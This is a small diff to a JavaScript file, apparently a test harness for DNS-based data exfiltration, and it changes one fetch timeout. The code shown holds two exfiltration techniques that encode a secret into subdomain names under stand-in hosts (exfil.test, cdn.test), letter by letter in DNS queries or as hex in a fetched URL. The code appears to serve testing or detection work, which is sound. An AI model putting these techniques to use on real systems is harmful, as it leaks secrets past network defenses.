@@ -42,7 +42,7 @@ const ways = {
   'many-questions': () => Promise.all([...secret].map((letter, at) => ask(`${at}-${letter}.exfil.test`, 'A'))),
   // A name is asked of others only when something is to be sent there.
   'below-a-wildcard': () =>
-    fetch(`http://${Buffer.from(secret).toString('hex')}.cdn.test/`, { signal: AbortSignal.timeout(3000) }).then(
+    fetch(`http://${Buffer.from(secret).toString('hex')}.cdn.test/`, { signal: AbortSignal.timeout(30_000) }).then(
       (answer) => console.log(answer.status),
       (error) => console.log(error.cause?.code ?? error.name),
     ),
